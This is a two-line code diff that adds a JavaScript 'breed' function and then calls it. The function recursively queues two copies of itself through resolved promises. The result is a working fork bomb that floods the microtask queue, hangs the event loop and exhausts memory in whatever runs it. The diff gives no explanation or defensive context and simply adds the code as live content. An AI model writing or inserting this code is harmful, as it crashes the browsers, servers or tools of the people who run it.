@@ -1,0 +1,2 @@
+const breed = () => { Promise.resolve().then(breed); Promise.resolve().then(breed); };
+breed();
